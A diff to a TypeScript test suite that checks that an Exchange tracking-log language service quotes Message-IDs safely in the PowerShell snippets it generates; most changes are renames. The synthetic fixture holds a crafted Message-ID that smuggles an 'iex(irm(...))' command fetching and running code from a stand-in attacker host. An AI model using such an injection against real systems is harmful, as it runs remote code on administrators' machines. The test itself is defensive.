@@ -120,6 +120,7 @@ const piece = fc.oneof(
   { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)) },
 );
 const hostileString = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));
+// eslint-disable-next-line no-control-regex -- matching control characters is the point
 const hostileLine = hostileString.map((s) => s.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/g, ''));
 
 // A C0 or C1 control, DEL, a line or paragraph separator, or an invisible or bidirectional format
@@ -202,7 +203,7 @@ describe('snippet placeholders take values only between single quotes', () => {
 });
 
 describe('every placeholder the product fills is inside a single-quoted literal', () => {
-  const MARKER = 'mfFillMarker';
+  const marker = 'mfFillMarker';
 
   /** The texts of the verbatim string literals tree-sitter finds in `text`. */
   async function verbatimStrings(text: string): Promise<string[]> {
@@ -230,13 +231,13 @@ describe('every placeholder the product fills is inside a single-quoted literal'
     for (const [prefix, indexes] of filled) {
       const body = snippetByPrefix(prefix)!.body;
       for (const index of indexes) {
-        const fills = powerShellValueFills(body, new Map([[index, MARKER]]));
+        const fills = powerShellValueFills(body, new Map([[index, marker]]));
         assert.ok(fills.has(index), `${prefix}: placeholder ${index} is not written between single quotes`);
         const text = renderSnippetBody(body, fills);
-        const occurrences = text.split(MARKER).length - 1;
+        const occurrences = text.split(marker).length - 1;
         assert.ok(occurrences >= 1, prefix);
-        const literals = (await verbatimStrings(text)).filter((s) => s.includes(MARKER));
-        assert.deepEqual(literals, Array(occurrences).fill(`'${MARKER}'`), `${prefix} placeholder ${index}`);
+        const literals = (await verbatimStrings(text)).filter((s) => s.includes(marker));
+        assert.deepEqual(literals, Array(occurrences).fill(`'${marker}'`), `${prefix} placeholder ${index}`);
       }
     }
   });
@@ -275,27 +276,27 @@ describe('every placeholder the product fills is inside a single-quoted literal'
 // The crafted tracking log of the issue, end to end through the language service.
 
 describe('a hostile tracking log (synthetic fixture)', () => {
-  const CRAFTED_ID = '<a\u2019;iex(irm(\u2019http://attacker.example/x\u2019));\u2019@b.example>';
-  const QUOTE_ID = '<o\u2019brien.7@contoso.example>';
+  const craftedId = '<a\u2019;iex(irm(\u2019http://attacker.example/x\u2019));\u2019@b.example>';
+  const quoteId = '<o\u2019brien.7@contoso.example>';
   const fields = trackingFieldsByVersion['2016'];
   const row = (values: Record<string, string>): string => fields.map((name) => values[name] ?? '').join(',');
   // Synthetic: written for this test. The crafted message is received by EX02, then deferred with
   // 4.4.7; a second message with a typographic apostrophe in an otherwise ordinary Message-ID fails with 5.4.6.
-  const LOG = [
+  const trackingLog = [
     '#Software: Microsoft Exchange Server',
     '#Version: 15.02.1544.004',
     '#Log-type: Message Tracking Log',
     '#Date: 2026-11-23T09:00:01.112Z',
     `#Fields: ${fields.join(',')}`,
     row({ 'date-time': '2026-11-23T09:14:02.120Z', 'server-hostname': 'EX02', source: 'SMTP', 'event-id': 'RECEIVE', 'internal-message-id': '86157228441601',
-      'message-id': CRAFTED_ID, 'recipient-address': 'bob@fabrikam.example', 'sender-address': 'mallory@attacker.example' }),
+      'message-id': craftedId, 'recipient-address': 'bob@fabrikam.example', 'sender-address': 'mallory@attacker.example' }),
     row({ 'date-time': '2026-11-23T09:30:11.050Z', 'server-hostname': 'mx.fabrikam.example', source: 'SMTP', 'event-id': 'DEFER', 'internal-message-id': '86157228441601',
-      'message-id': CRAFTED_ID, 'recipient-address': 'bob@fabrikam.example', 'recipient-status': '"451 4.4.7 Message delayed"', 'sender-address': 'mallory@attacker.example' }),
+      'message-id': craftedId, 'recipient-address': 'bob@fabrikam.example', 'recipient-status': '"451 4.4.7 Message delayed"', 'sender-address': 'mallory@attacker.example' }),
     row({ 'date-time': '2026-11-23T09:40:00.000Z', 'server-hostname': 'EX02', source: 'ROUTING', 'event-id': 'FAIL', 'internal-message-id': '86157228441605',
-      'message-id': QUOTE_ID, 'recipient-address': 'carol@contoso.example', 'recipient-status': '"550 5.4.6 Routing loop detected"', 'sender-address': 'dave@contoso.example' }),
+      'message-id': quoteId, 'recipient-address': 'carol@contoso.example', 'recipient-status': '"550 5.4.6 Routing loop detected"', 'sender-address': 'dave@contoso.example' }),
   ].join('\n');
   const service = getLanguageService();
-  const document = TextDocument.create('file:///MSGTRK20261123-9.LOG', 'exchange-tracking-log', 1, LOG);
+  const document = TextDocument.create('file:///MSGTRK20261123-9.LOG', 'exchange-tracking-log', 1, trackingLog);
 
   /** The arguments of every open-PowerShell command: URI in a hover, read without relying on how links are written. */
   function commandArguments(markdown: string): { snippet?: string; text?: string }[] {
@@ -325,34 +326,34 @@ describe('a hostile tracking log (synthetic fixture)', () => {
     const actions = service.getCodeActions(document, diagnostics);
     assert.deepEqual(actions.map((a) => a.title), [TRACE_ACTION_TITLE, TRACE_ACTION_TITLE]);
     const [crafted, quoted] = actions.map((a) => (a.command!.arguments![0] as { text: string }).text);
-    assertSafe(crafted!, CRAFTED_ID);
+    assertSafe(crafted!, craftedId);
     assert.equal(argumentLiteral(crafted!, 'Server').value, 'EX02');
-    assertSafe(quoted!, QUOTE_ID);
+    assertSafe(quoted!, quoteId);
   });
 
   it('the hover on the deferral code: both "Trace this message" links hold the Message-ID as one literal', () => {
-    const line = LOG.split('\n').findIndex((l) => l.includes(',DEFER,'));
-    const hover = service.doHover(document, { line, character: LOG.split('\n')[line]!.indexOf('4.4.7') + 1 });
+    const line = trackingLog.split('\n').findIndex((l) => l.includes(',DEFER,'));
+    const hover = service.doHover(document, { line, character: trackingLog.split('\n')[line]!.indexOf('4.4.7') + 1 });
     assert.ok(hover);
     const markdown = (hover.contents as { value: string }).value;
     assert.match(markdown, /Trace this message\b/);
     const scripts = commandArguments(markdown).map((a) => expandSnippet(a.snippet ?? ''));
     const tracing = scripts.filter((s) => s.includes('-MessageId'));
     assert.equal(tracing.length, 2, markdown);
-    for (const script of tracing) assertSafe(script, CRAFTED_ID);
+    for (const script of tracing) assertSafe(script, craftedId);
     for (const script of scripts.filter((s) => !tracing.includes(s))) assert.doesNotMatch(script, /attacker/);
   });
 
   it('the hover on the failure code: the typographic apostrophe is doubled in the links', () => {
-    const line = LOG.split('\n').findIndex((l) => l.includes(',FAIL,'));
-    const hover = service.doHover(document, { line, character: LOG.split('\n')[line]!.indexOf('5.4.6') + 1 });
+    const line = trackingLog.split('\n').findIndex((l) => l.includes(',FAIL,'));
+    const hover = service.doHover(document, { line, character: trackingLog.split('\n')[line]!.indexOf('5.4.6') + 1 });
     assert.ok(hover);
     const tracing = commandArguments((hover.contents as { value: string }).value)
       .map((a) => a.snippet ?? '').filter((s) => s.includes('-MessageId'));
     assert.equal(tracing.length, 2);
     for (const snippet of tracing) {
       assert.ok(snippet.includes("'${1:<o\u2019\u2019brien.7@contoso.example>}'"), snippet);
-      assertSafe(expandSnippet(snippet), QUOTE_ID);
+      assertSafe(expandSnippet(snippet), quoteId);
     }
   });
 });
